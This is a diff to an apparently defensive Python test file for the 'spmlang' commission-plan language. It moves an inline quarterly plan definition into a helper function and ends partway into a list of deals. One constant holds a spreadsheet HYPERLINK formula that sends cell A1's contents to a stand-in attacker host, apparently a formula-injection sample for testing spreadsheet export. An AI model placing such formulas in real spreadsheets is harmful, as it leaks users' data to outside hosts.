@@ -8,29 +8,19 @@ import json
 
 import pyarrow.parquet as pq
 import pytest
+from helpers import quarterly_plan
 
 import spmlang
 from spmlang.spreadsheet import from_spreadsheet_text, spreadsheet_text
 from spmlang.verify import verify
 
-PLAN = """plan "Formulas" {
-  year starts 2027-01-01
-  payout quarterly
-}
-transactions {
-  column id     text
-  column rep    text
-  column day    date
-  column amount money
-  key    id
-  date   day
-  payee  rep
-  credit amount
-}
-component commission {
+PLAN = quarterly_plan(
+    "Formulas",
+    """component commission {
   rate 10%
 }
-"""
+""",
+)
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 DEALS = [
